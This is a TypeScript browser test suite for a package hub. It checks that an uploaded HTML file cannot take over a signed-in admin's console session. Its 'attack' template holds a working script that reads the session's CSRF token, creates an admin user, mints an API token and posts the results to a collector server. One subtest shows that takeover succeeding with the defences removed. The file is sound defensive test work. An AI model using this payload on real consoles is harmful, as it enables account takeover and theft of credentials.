import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import t, { type Test } from 'tap';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import admin from '@hub/admin';
import consolePlugin from '@hub/console';
import generic from '@hub/kind-path/generic';
import publishing from '@hub/publishing';
import { startTestHub, type TestHub } from '@hub/testkit';

/**
 * Issue 26, item 1, in a real browser (docs/decisions/0035). A publisher uploads an `.html` file whose script reads
 * the console session (for its CSRF token), creates an admin user and a token, and sends what it got to a collector.
 * A signed-in admin opens the link. The file downloads instead of rendering; rendered anyway (a browser that
 * ignores Content-Disposition), the sandbox policy stops its script; and with the console on an origin of its own
 * ([console] public_url) even a script running on the registries' origin reaches no session.
 */
const CHROMIUM = '/usr/bin/chromium';
const noBrowser = fs.existsSync(CHROMIUM) ? false : `${CHROMIUM} is absent (apt-get install chromium)`;

/**
 * The attack. Each step is recorded in the page (`window.__steps`, read through DevTools) and sent to the attacker's
 * collector, so a script that never ran, and one that ran and was refused, look different.
 */
const attack = (collector: string, consoleBase = '') => `<!doctype html><html><body><h1>release notes</h1><script>
window.__steps = {};
(async () => {
  const report = (step, value) => {
    window.__steps[step] = value;
    return fetch('${collector}/leak', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ step, value }) }).catch(() => {});
  };
  await report('ran', location.origin);
  let csrf = '';
  try {
    const r = await fetch('${consoleBase}/console/session', { credentials: 'include' });
    const text = await r.text();
    await report('session', r.status + ' ' + text.slice(0, 200));
    csrf = JSON.parse(text).csrf || '';
  } catch (e) { await report('session-error', String(e)); }
  try {
    const h = { 'content-type': 'application/json', 'x-hub-csrf': csrf };
    const u = await fetch('${consoleBase}/api/v1/admin/users', { method: 'POST', credentials: 'include', headers: h, body: JSON.stringify({ id: 'mallory', roles: ['admin'] }) });
    await report('user', u.status);
    const k = await fetch('${consoleBase}/api/v1/admin/tokens', { method: 'POST', credentials: 'include', headers: h, body: JSON.stringify({ user_id: 'admin' }) });
    await report('token', k.status);
  } catch (e) { await report('admin-error', String(e)); }
})();
</script></body></html>`;

/** What reaches the attacker's server. */
async function startCollector(t: Test): Promise<{ url: string; got: Array<{ step: string; value: unknown }> }> {
  const got: Array<{ step: string; value: unknown }> = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString('utf8')));
    req.on('end', () => {
      try {
        got.push(JSON.parse(body) as { step: string; value: unknown });
      } catch {
        got.push({ step: 'unparsed', value: body });
      }
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  t.teardown(() => {
    // The browser keeps its connections open: cut them, or close() waits for them.
    server.closeAllConnections();
    return new Promise<void>((r) => server.close(() => r()));
  });
  return { url: `http://127.0.0.1:${(server.address() as net.AddressInfo).port}`, got };
}

async function freePort(): Promise<number> {
  const s = net.createServer();
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  const port = (s.address() as net.AddressInfo).port;
  await new Promise<void>((r) => s.close(() => r()));
  return port;
}

async function startHub(t: Test, o: { listen?: string; consoleUrl?: string } = {}): Promise<TestHub> {
  const hub = await startTestHub({
    dir: t.testdir(),
    plugins: [generic, publishing, admin, consolePlugin],
    registries: [{ name: 'pub', type: 'generic', mode: 'local' }],
    config: {
      ...(o.listen ? { server: { listen: o.listen } } : {}),
      ...(o.consoleUrl ? { console: { public_url: o.consoleUrl } } : {}),
      // Anyone may read the registry: the admin's browser follows the link without a token.
      auth: { anonymous: ['source:read'] },
    },
  });
  t.teardown(() => hub.close());
  return hub;
}

async function publish(hub: TestHub, file: string, html: string): Promise<void> {
  const publisher = await hub.token('eve', { roles: ['publisher'] });
  const res = await fetch(`${hub.url}/proxy/pub/${file}`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${publisher}`, 'content-type': 'text/html' },
    body: html,
  });
  if (res.status !== 201) throw new Error(`publish answered ${res.status}: ${await res.text()}`);
}

async function launch(t: Test): Promise<Browser> {
  const browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
    ],
  });
  t.teardown(() => browser.close());
  return browser;
}

async function signIn(page: Page, consoleUrl: string, token: string): Promise<void> {
  await page.goto(`${consoleUrl}/console/`);
  await page.getByLabel('Token').fill(token);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByRole('navigation', { name: 'Console' }).waitFor();
}

/** Users and token names as the admin API lists them (with the bootstrap token, not the browser). */
async function accounts(hub: TestHub): Promise<{ users: string[]; tokens: number }> {
  const users = (await (
    await fetch(`${hub.url}/api/v1/admin/users`, { headers: { authorization: `Bearer ${hub.adminToken}` } })
  ).json()) as { users?: Array<{ id: string }> } | Array<{ id: string }>;
  const list = Array.isArray(users) ? users : (users.users ?? []);
  const tokens = await hub.hub.db('tokens').count({ n: '*' }).first();
  return { users: list.map((u) => u.id).sort(), tokens: Number((tokens as { n: number }).n) };
}

/**
 * What the attack recorded in its page. Pages a route fulfils stand for a document from nowhere, which Chromium
 * may not let reach the loopback collector (local network access), so these are read in the page.
 */
const recorded = (page: Page) =>
  page.evaluate(() => (globalThis as unknown as { __steps?: Record<string, unknown> }).__steps ?? {}) as Promise<
    Record<string, unknown>
  >;

/** Lets a script that did run finish its requests. */
const settle = () => new Promise((r) => setTimeout(r, 1500));

t.test(
  'an admin opens a published .html file: it downloads, its script never runs (#26)',
  { skip: noBrowser },
  async (t) => {
    const collector = await startCollector(t);
    const hub = await startHub(t);
    await publish(hub, 'docs/notes.html', attack(collector.url));
    const before = await accounts(hub);
    const browser = await launch(t);
    const context: BrowserContext = await browser.newContext({ acceptDownloads: true });
    const page = await context.newPage();
    await signIn(page, hub.url, hub.adminToken);

    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.goto(`${hub.url}/proxy/pub/docs/notes.html`).catch(() => null),
    ]);
    t.equal(download.suggestedFilename(), 'notes.html', 'the browser saved the file instead of rendering it');
    await settle();
    t.match(page.url(), /\/console\//, 'the tab still shows the console');
    t.same(await recorded(page), {}, 'the script never ran');
    t.same(collector.got, [], 'nothing reached the collector');
    t.same(await accounts(hub), before, 'no user and no token was created');
    t.notOk((await accounts(hub)).users.includes('mallory'));
  },
);

t.test(
  'rendered anyway (Content-Disposition ignored): the sandbox policy stops the script (#26)',
  { skip: noBrowser },
  async (t) => {
    const collector = await startCollector(t);
    const hub = await startHub(t);
    await publish(hub, 'docs/notes.html', attack(collector.url));
    const before = await accounts(hub);
    const browser = await launch(t);
    const context = await browser.newContext();
    const page = await context.newPage();
    await signIn(page, hub.url, hub.adminToken);
    // A browser that renders attachments: hub's answer, every other header as sent, the disposition dropped.
    let served: Record<string, string> = {};
    await page.route('**/proxy/pub/**', async (route) => {
      const res = await route.fetch();
      served = res.headers();
      const { 'content-disposition': _dropped, ...headers } = served;
      await route.fulfill({ response: res, headers });
    });
    await page.goto(`${hub.url}/proxy/pub/docs/notes.html`);
    t.equal(await page.locator('h1').textContent(), 'release notes', 'the page rendered');
    t.equal(served['content-security-policy'], "sandbox; default-src 'none'");
    t.equal(served['x-content-type-options'], 'nosniff');
    await settle();
    t.same(await recorded(page), {}, 'sandboxed: its script did not run');
    t.same(collector.got, [], 'nothing reached the collector');
    t.same(await accounts(hub), before, 'no user and no token was created');
  },
);

t.test(
  "without any artifact defence, the same page on the console's origin takes over; on a registries-only origin it cannot (#26)",
  { skip: noBrowser },
  async (t) => {
    const browser = await launch(t);

    await t.test('control: one shared origin, the defences stripped, the attack works', async (t) => {
      const collector = await startCollector(t);
      const hub = await startHub(t);
      const context = await browser.newContext();
      const page = await context.newPage();
      await signIn(page, hub.url, hub.adminToken);
      await page.route('**/evil.html', (route) =>
        route.fulfill({ status: 200, contentType: 'text/html', body: attack(collector.url) }),
      );
      await page.goto(`${hub.url}/proxy/pub/evil.html`);
      await settle();
      const steps = await recorded(page);
      t.match(
        steps.session,
        /^200 /,
        "a script on the console's origin reads the session: what the other defences are for",
      );
      t.equal(steps.user, 201, 'and creates an admin user');
      t.equal(steps.token, 201, 'and a token');
      t.ok((await accounts(hub)).users.includes('mallory'));
    });

    await t.test(
      "[console] public_url on another host: a script on the registries' origin reaches no session",
      async (t) => {
        const collector = await startCollector(t);
        const port = await freePort();
        const consoleUrl = `http://localhost:${port}`;
        const hub = await startHub(t, { listen: `127.0.0.1:${port}`, consoleUrl });
        const before = await accounts(hub);
        const context = await browser.newContext();
        const page = await context.newPage();
        await signIn(page, consoleUrl, hub.adminToken);
        // Same-host requests first (the cookie is the console host's, and no console answers here), then straight at the
        // console's origin (CORS and SameSite=Strict keep the answer and the cookie from a page of another origin).
        for (const base of ['', consoleUrl]) {
          collector.got.length = 0;
          const evil = `http://127.0.0.1:${port}/proxy/pub/evil-${base === '' ? 'a' : 'b'}.html`;
          await page.route(evil, (route) =>
            route.fulfill({ status: 200, contentType: 'text/html', body: attack(collector.url, base) }),
          );
          await page.goto(evil);
          await settle();
          const steps = await recorded(page);
          t.equal(
            steps.ran,
            `http://127.0.0.1:${port}`,
            `${base || 'same host'}: the script ran, on the registries' origin`,
          );
          t.notMatch(String(steps.session ?? ''), /^200 /, `${base || 'same host'}: it could not read the session`);
          t.notMatch(String(steps.session ?? ''), /csrf/, `${base || 'same host'}: no CSRF token`);
          t.not(steps.user, 201, `${base || 'same host'}: no user created`);
        }
        t.same(await accounts(hub), before, 'no user and no token was created');
        // And the admin's own console still works on its origin.
        await page.goto(`${consoleUrl}/console/`);
        await page.getByRole('navigation', { name: 'Console' }).waitFor();
        t.pass('the console on its own origin is still signed in');
      },
    );
  },
);
